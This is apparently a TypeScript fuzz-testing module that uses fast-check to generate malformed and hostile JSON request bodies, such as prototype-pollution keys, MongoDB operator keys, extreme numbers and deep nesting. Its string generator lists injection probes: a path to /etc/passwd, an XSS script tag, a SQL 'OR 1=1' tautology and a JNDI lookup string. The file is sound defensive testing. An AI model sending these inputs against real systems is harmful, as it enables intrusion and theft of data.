// Hostile JSON as text: a tree that can hold what a JS object cannot (an own `__proto__` key,
// duplicate keys, number literals such as 1e400 or -0), mutations of valid bodies, and the strings,
// keys and numbers an attacker or a careless client sends.
import fc from 'fast-check';

export type JsonNode =
  | { kind: 'string'; value: string }
  | { kind: 'number'; text: string }
  | { kind: 'bool'; value: boolean }
  | { kind: 'null' }
  | { kind: 'array'; items: JsonNode[] }
  | { kind: 'object'; entries: Array<[string, JsonNode]> }
  /** Text written as is: nesting thousands deep, which a recursive walk could not print. */
  | { kind: 'raw'; text: string };

/** The JSON text of a tree, keys in their order, duplicates kept. */
export function toJsonText(node: JsonNode): string {
  switch (node.kind) {
    case 'string':
      return JSON.stringify(node.value);
    case 'number':
      return node.text;
    case 'bool':
      return node.value ? 'true' : 'false';
    case 'null':
      return 'null';
    case 'array':
      return `[${node.items.map(toJsonText).join(',')}]`;
    case 'object':
      return `{${node.entries.map(([key, value]) => `${JSON.stringify(key)}:${toJsonText(value)}`).join(',')}}`;
    case 'raw':
      return node.text;
  }
}

/** A plain JSON value as a tree. */
export function fromValue(value: unknown): JsonNode {
  if (value === null || value === undefined) return { kind: 'null' };
  if (typeof value === 'string') return { kind: 'string', value };
  if (typeof value === 'number') return { kind: 'number', text: JSON.stringify(value) };
  if (typeof value === 'boolean') return { kind: 'bool', value };
  if (Array.isArray(value)) return { kind: 'array', items: value.map(fromValue) };
  return { kind: 'object', entries: Object.entries(value as Record<string, unknown>).map(([k, v]) => [k, fromValue(v)]) };
}

const string = (value: string): JsonNode => ({ kind: 'string', value });

/** Keys that could reach MongoDB as operators or paths, or pollute prototypes, and plain odd ones. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 12 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '__proto__',
      'constructor',
      'prototype',
      '$where',
      '$gt',
      '$ne',
      '$set',
      '$',
      '.',
      'a.b',
      'profile.target',
      '__defineGetter__',
      'toString',
      'hasOwnProperty',
      'valueOf',
      '\u0000',
      'a\u0000b',
      '',
    ),
  },
  { weight: 1, arbitrary: fc.string({ maxLength: 8 }).map((s) => `$${s}`) },
  { weight: 1, arbitrary: fc.tuple(fc.string({ maxLength: 6 }), fc.string({ maxLength: 6 })).map(([a, b]) => `${a}.${b}`) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 8 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
);

/** Number literals as written: huge, tiny, negative zero, fractions where whole numbers belong. */
export const hostileNumber: fc.Arbitrary<JsonNode> = fc
  .oneof(
    fc.integer().map(String),
    fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => JSON.stringify(n)),
    fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }).map(String),
    fc.constantFrom('1e400', '-1e400', '-0', '1.0', '0.5', '2.5', '1e-400', '9007199254740993', '-1', '0', '12', '13', '1000000', '1000001'),
  )
  .map((text) => ({ kind: 'number' as const, text }));

/** Strings: unicode, lone surrogates, NUL, numbers written as strings, injection shapes, and huge ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.bigInt()).map(String) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '../../etc/passwd',
      '%00',
      '\u0000',
      '{"$gt":""}',
      '<script>alert(1)</script>',
      "' OR 1=1 --",
      '${jndi:ldap://example.invalid/a}',
      '__proto__',
      'keto',
      'general',
      'baby_food',
      'fridge',
      '7',
      '2',
      'NaN',
      'Infinity',
      '-0',
      'true',
      'null',
      ' ',
      '',
    ),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.integer({ min: 1_000, max: 120_000 }), fc.constantFrom('x', '가', '😀', '\u0000', '\\'))
      .map(([n, c]) => c.repeat(n)),
  },
);

const leaf: fc.Arbitrary<JsonNode> = fc.oneof(
  { weight: 3, arbitrary: hostileString.map(string) },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.boolean().map((value) => ({ kind: 'bool' as const, value })) },
  { weight: 1, arbitrary: fc.constant({ kind: 'null' as const }) },
);

/** Arrays and objects nested tens to thousands deep. */
const deep: fc.Arbitrary<JsonNode> = fc
  .tuple(fc.integer({ min: 30, max: 5_000 }), fc.boolean(), hostileKey, leaf)
  .map(([depth, arrays, key, inner]) => {
    const open = arrays ? `[{${JSON.stringify(key)}:` : `{${JSON.stringify(key)}:`;
    const close = arrays ? '}]' : '}';
    return { kind: 'raw', text: `${open.repeat(depth)}${toJsonText(inner)}${close.repeat(depth)}` };
  });

/** Any JSON at all, hostile keys and values at every depth. */
export const hostileJson: fc.Arbitrary<JsonNode> = fc.oneof(
  { weight: 6, arbitrary: fc.letrec<{ node: JsonNode; array: JsonNode; object: JsonNode }>((tie) => ({
    node: fc.oneof({ depthSize: 'small' }, leaf, tie('array'), tie('object')),
    array: fc.array(tie('node'), { maxLength: 5 }).map((items): JsonNode => ({ kind: 'array', items })),
    object: fc
      .array(fc.tuple(hostileKey, tie('node')), { maxLength: 5 })
      .map((entries): JsonNode => ({ kind: 'object', entries })),
  })).node },
  { weight: 1, arbitrary: deep },
);

/** Every place in a tree, as the path of child indexes leading to it. */
function places(node: JsonNode, at: number[] = [], out: number[][] = []): number[][] {
  out.push(at);
  if (node.kind === 'array') node.items.forEach((item, i) => places(item, [...at, i], out));
  if (node.kind === 'object') node.entries.forEach(([, value], i) => places(value, [...at, i], out));
  return out;
}

function replaceAt(node: JsonNode, at: readonly number[], change: (target: JsonNode) => JsonNode): JsonNode {
  const [first, ...rest] = at;
  if (first === undefined) return change(node);
  if (node.kind === 'array') return { kind: 'array', items: node.items.map((item, i) => (i === first ? replaceAt(item, rest, change) : item)) };
  if (node.kind === 'object') {
    return { kind: 'object', entries: node.entries.map(([key, value], i) => [key, i === first ? replaceAt(value, rest, change) : value]) };
  }
  return node;
}

type Mutation = 'replace' | 'add_key' | 'duplicate_key' | 'stringify_number' | 'wrap_in_array' | 'drop';

function mutate(node: JsonNode, kind: Mutation, key: string, value: JsonNode): JsonNode {
  switch (kind) {
    case 'replace':
      return value;
    case 'add_key':
      return node.kind === 'object' ? { kind: 'object', entries: [...node.entries, [key, value]] } : value;
    case 'duplicate_key': {
      // JSON.parse keeps the last of two equal keys: a valid field shadowed by a hostile one.
      const first = node.kind === 'object' ? node.entries[0] : undefined;
      return node.kind === 'object' && first ? { kind: 'object', entries: [...node.entries, [first[0], value]] } : value;
    }
    case 'stringify_number':
      return node.kind === 'number' ? string(node.text) : string(toJsonText(node));
    case 'wrap_in_array':
      return { kind: 'array', items: [node] };
    case 'drop':
      return node.kind === 'object' ? { kind: 'object', entries: node.entries.slice(1) } : { kind: 'null' };
  }
}

/** A valid body with one thing wrong somewhere: the cases that get past the first check. */
export function mutationOf(valid: fc.Arbitrary<unknown>): fc.Arbitrary<JsonNode> {
  return valid.chain((value) => {
    const tree = fromValue(value);
    const all = places(tree);
    return fc
      .tuple(
        fc.integer({ min: 0, max: all.length - 1 }),
        fc.constantFrom<Mutation>('replace', 'add_key', 'duplicate_key', 'stringify_number', 'wrap_in_array', 'drop'),
        hostileKey,
        hostileJson,
      )
      .map(([index, kind, key, replacement]) => replaceAt(tree, all[index] ?? [], (target) => mutate(target, kind, key, replacement)));
  });
}

/** Bodies for a route: mostly valid ones with one mutation, some valid, some anything at all, some empty. */
export function bodyFor(valid: fc.Arbitrary<unknown>): fc.Arbitrary<string | undefined> {
  return fc.oneof(
    { weight: 4, arbitrary: mutationOf(valid).map(toJsonText) },
    { weight: 2, arbitrary: valid.map((value) => JSON.stringify(value)) },
    { weight: 3, arbitrary: hostileJson.map(toJsonText) },
    { weight: 1, arbitrary: fc.constantFrom(undefined, '', '{}', '[]', 'null', '"x"', '{"a":', 'nul', '{"a":1}}', '\ufeff{}') },
  );
}
